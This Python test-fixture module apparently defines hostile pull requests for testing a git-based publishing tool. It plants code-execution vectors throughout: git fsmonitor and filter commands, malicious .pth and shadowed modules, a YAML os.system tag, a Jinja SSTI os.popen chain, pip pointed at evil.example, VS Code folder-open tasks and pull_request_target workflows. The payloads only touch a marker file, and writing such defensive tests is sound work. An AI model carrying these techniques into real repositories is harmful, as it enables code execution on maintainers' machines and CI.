"""Attacks by what could be executed: modules, programs, git's own settings, and those of the tools around."""

# ruff: noqa: E501 - an attack is read best as it is typed

from __future__ import annotations

from typing import Final

from hostile.pull_requests.attack import Attack, Files, charter, post, program, text

_PYTHON: Final = text("import pathlib\npathlib.Path('@MARK@').touch()\n")
_SHELL: Final = program("#!/bin/sh\ntouch '@MARK@'\n")
_POST: Final[Files] = {"content/evil.md": post("{{ 7*7 }}", publish_at="2026-12-05 10:00", channels="[news, town]")}


def _brought(what: str, files: Files) -> Attack:
    return Attack(what, {**_POST, **files}, told=True)


_BARE: Final[Files] = {
    "HEAD": text("ref: refs/heads/main\n"),
    "config": text('[core]\n\tbare = false\n\tworktree = "."\n\tfsmonitor = "touch @MARK@"\n\tpager = touch @MARK@\n'),
    "objects/x": text(""),
    "refs/x": text(""),
}
PROGRAMS: Final = (
    _brought(
        "a package of the program's name",
        {f"parution/{name}.py": _PYTHON for name in ("__init__", "__main__", "cli")} | {"parution.py": _PYTHON},
    ),
    _brought(
        "modules of the libraries' names",
        {
            f"{folder}{name}.py": _PYTHON
            for folder in ("", "content/")
            for name in ("click", "yaml", "msgspec", "jinja2", "babel", "mkdocs", "material", "PIL", "regex", "git", "re2", "nh3")
        },
    ),
    _brought(
        "modules of the standard library's names",
        {
            f"{name}.py": _PYTHON
            for name in ("os", "json", "re", "ssl", "random", "types", "encodings", "subprocess", "locale", "secrets", "tempfile")
        },
    ),
    _brought(
        "what Python executes at its start", {f"{name}.py": _PYTHON for name in ("sitecustomize", "usercustomize", "conftest", "setup")}
    ),
    _brought(
        "paths for Python",
        {
            "evil.pth": text("import pathlib; pathlib.Path('@MARK@').touch()\n"),
            "pyvenv.cfg": text("home = .\ninclude-system-site-packages = true\n"),
            "lib/python3.11/site-packages/evil.pth": text("import os; os.system('touch @MARK@')\n"),
        },
    ),
    _brought(
        "settings for the tools",
        {
            "pyproject.toml": text(
                '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\nbackend-path = ["."]\n[project.entry-points."mkdocs.plugins"]\nevil = "evil:Evil"\n[tool.pytest.ini_options]\naddopts = "-p evil"\n'
            ),
            "evil.py": _PYTHON,
            "setup.cfg": text("[options.entry_points]\nmkdocs.plugins = evil = evil:Evil\n"),
            "tox.ini": text("[testenv]\ncommands = touch @MARK@\n"),
            "parution-1.dist-info/entry_points.txt": text("[mkdocs.plugins]\nsearch = evil:Evil\n[babel.extractors]\nx = evil\n"),
        },
    ),
    _brought(
        "settings for the site",
        {
            "mkdocs.yml": text(
                "site_name: !!python/object/apply:os.system ['touch @MARK@']\nhooks: [evil.py]\nplugins: [macros, exec]\nINHERIT: ../secret.md\ntheme: {custom_dir: theme}\n"
            ),
            "evil.py": _PYTHON,
            "main.py": _PYTHON,
            "zensical.toml": text('[project]\nhooks = ["evil.py"]\n'),
            "theme/main.html": text("{{ cycler.__init__.__globals__.os.popen('touch @MARK@').read() }}"),
            "overrides/main.html": text("{{ cycler.__init__.__globals__.os.popen('touch @MARK@').read() }}<script>alert(1)</script>"),
            "docs/index.md": text("{{ 7*7 }}\n<script>alert(1)</script>\n"),
            "locale/fr/LC_MESSAGES/parution.mo": text("x"),
            "babel.cfg": text("[extractors]\nx = evil:x\n"),
        },
    ),
    _brought(
        "settings of pip's, and what it is to install",
        {
            ".parution/requirements.txt": text("--index-url https://evil.example/\nevil @ file://@OUTSIDE@\n-e .\n"),
            "requirements.txt": text("-e .\n"),
            "requirements/site.txt": text("-e .\n"),
            "pip.conf": text("[global]\nindex-url = https://evil.example/\n"),
            "setup.py": _PYTHON,
        },
    ),
    _brought(
        "programs of common names",
        dict.fromkeys(
            (
                "git",
                "python",
                "python3",
                "pip",
                "parution",
                "bash",
                "sh",
                "openssl",
                "grep",
                "curl",
                "jq",
                "bin/git",
                ".bin/parution",
                "node_modules/.bin/git",
            ),
            _SHELL,
        ),
    ),
    _brought(
        "hooks",
        {
            f"{folder}/{name}": _SHELL
            for folder in (".githooks", "hooks", ".husky", ".git-hooks")
            for name in ("post-checkout", "pre-commit", "post-merge", "fsmonitor-watchman")
        },
    ),
    _brought(
        "filters of git's",
        {
            ".gitattributes": text("* filter=evil diff=evil merge=evil text eol=crlf ident export-subst\n[attr]evil diff=evil\n"),
            "content/.gitattributes": text("*.md filter=evil -diff\n"),
            ".gitconfig": text(
                '[filter "evil"]\n\tclean = touch @MARK@\n\tsmudge = touch @MARK@\n[diff "evil"]\n\ttextconv = touch @MARK@\n\tcommand = touch @MARK@\n'
            ),
            ".gitignore": text("*\n!/charter.yml\n"),
        },
    ),
    Attack("another encoding for all files of git's", {**_POST, ".gitattributes": text("*.md working-tree-encoding=UTF-16\n")}),
    _brought(
        "names for git's authors",
        {
            ".mailmap": text(
                f"::error::pwned <stranger@example.org>\n<img src=x onerror=alert(1)> <maud@example.org>\n{'Maud' * 9_000} <stranger@example.org>\n"
            )
        },
    ),
    _brought("a bare repository at the top", _BARE),
    _brought(
        "a bare repository among the posts",
        {f"content/{path}": entry for path, entry in _BARE.items()} | {f"docs/{path}": entry for path, entry in _BARE.items()},
    ),
    _brought(
        "settings of editors and shells",
        {
            ".envrc": text("touch @MARK@\n"),
            ".bashrc": text("touch @MARK@\n"),
            ".profile": text("touch @MARK@\n"),
            ".env": text("PYTHONSTARTUP=evil.py\nPARUTION_CACHE=/tmp\nBASH_ENV=.bashrc\n"),
            ".vscode/tasks.json": text('{"tasks": [{"command": "touch @MARK@", "runOptions": {"runOn": "folderOpen"}}]}'),
            ".python-version": text("../outside\n"),
            "Makefile": text("all:\n\ttouch @MARK@\n"),
            "package.json": text('{"scripts": {"preinstall": "touch @MARK@"}}'),
            ".netrc": text("default login x password x\n"),
            ".curlrc": text('output = "executed"\n'),
            ".jq": text('def map(f): "executed";\n'),
        },
    ),
    _brought(
        "a cache of its own making",
        {
            f"{folder}/posts": text("\x83\xa1x\xc0")
            for folder in (".cache", ".cache/parution", ".parution/cache", "content/.cache", ".parution")
        },
    ),
    _brought(
        "another check, another comment, another program",
        {
            ".github/workflows/check.yml": text(
                "name: Check\non: pull_request_target\njobs: {check: {runs-on: x, steps: [{run: touch @MARK@}]}}\n"
            ),
            ".github/workflows/comment.yml": text(
                "name: Comment\non: pull_request_target\npermissions: write-all\njobs: {x: {runs-on: x, steps: [{run: touch @MARK@}]}}\n"
            ),
            ".github/workflows/evil.yml": text("name: Check\non: push\njobs: {x: {runs-on: x, steps: [{run: touch @MARK@}]}}\n"),
            "action.yml": text("runs: {using: composite, steps: [{run: touch @MARK@, shell: bash}]}\n"),
            ".github/actions/checkout/action.yml": text("runs: {using: node20, main: x.js}\n"),
            ".github/CODEOWNERS": text("* @stranger\n"),
            "generator/parution/__main__.py": _PYTHON,
        },
    ),
    Attack(
        "a change of who must agree, with what they must agree to",
        {
            "charter.yml": charter("approvals: {craft: [maud]}", people='{maud: {name: Maud, forge: "@stranger"}}'),
            ".github/CODEOWNERS": text("* @stranger\n/content/ @stranger\n"),
            "content/evil.md": post(status="approved", publish_at="2026-12-05 10:00", pillar="craft"),
        },
        told=True,
    ),
)
